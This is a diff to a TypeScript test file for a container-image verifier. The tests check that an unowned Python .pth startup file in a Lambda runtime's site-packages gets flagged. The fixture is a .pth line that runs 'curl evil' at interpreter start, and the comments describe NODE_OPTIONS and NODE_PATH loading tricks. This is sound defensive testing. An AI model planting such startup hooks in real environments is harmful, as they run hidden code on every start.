@@ -16,7 +16,9 @@
  * - the config's environment makes the runtime load a file no cataloger reads
  *   (`NODE_OPTIONS=--require /usr/share/doc/x/readme.js`): `ENV_LOADER`, allowed only by name;
  * - a denied npm package outside any `node_modules`, in `/var/task` or `/var/runtime`, which
- *   Lambda's Node.js bootstrap puts on `NODE_PATH`: `require('event-stream')` loads it.
+ *   Lambda's Node.js bootstrap puts on `NODE_PATH`: `require('event-stream')` loads it;
+ * - a `.pth` in the runtime's own site directory (`/var/lang/lib/python3.12/site-packages`),
+ *   whose `import` lines `site` runs at every start: listed, unowned unless a RECORD lists it.
  */
 import { createHash } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
@@ -320,6 +322,47 @@ images:
       undefined,
       denying
     );
+    expect(r.code).toBe(0);
+  });
+});
+
+describe("verify IMAGE: a .pth in the runtime's own site directory", () => {
+  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
+  const SP = 'var/lang/lib/python3.12/site-packages';
+  const PTH = 'import os; os.system("curl evil")\n';
+  const tree = [
+    dir('var'),
+    dir('var/lang'),
+    dir('var/lang/lib'),
+    dir('var/lang/lib/python3.12'),
+    dir(SP),
+  ];
+  const b64 = (b: string) => createHash('sha256').update(b).digest('base64url');
+
+  it('an unowned one fails inventory:complete', async () => {
+    const r = await verify([...clean, ...tree, file(`${SP}/zzz-init.pth`, PTH)]);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.detail).toContain(
+      `UNOWNED_EXECUTABLE ${SP}/zzz-init.pth`
+    );
+  });
+
+  it('the control: one the RECORD of an installed distribution lists passes', async () => {
+    const r = await verify([
+      ...clean,
+      ...tree,
+      file(`${SP}/zzz-init.pth`, PTH),
+      dir(`${SP}/zzz_init-1.0.dist-info`),
+      file(
+        `${SP}/zzz_init-1.0.dist-info/METADATA`,
+        'Metadata-Version: 2.1\nName: zzz-init\nVersion: 1.0\n'
+      ),
+      file(
+        `${SP}/zzz_init-1.0.dist-info/RECORD`,
+        `zzz-init.pth,sha256=${b64(PTH)},${PTH.length}\nzzz_init-1.0.dist-info/METADATA,,\nzzz_init-1.0.dist-info/RECORD,,\n`
+      ),
+    ]);
+    expect(r.check('inventory:complete')?.outcome).toBe('pass');
     expect(r.code).toBe(0);
   });
 });
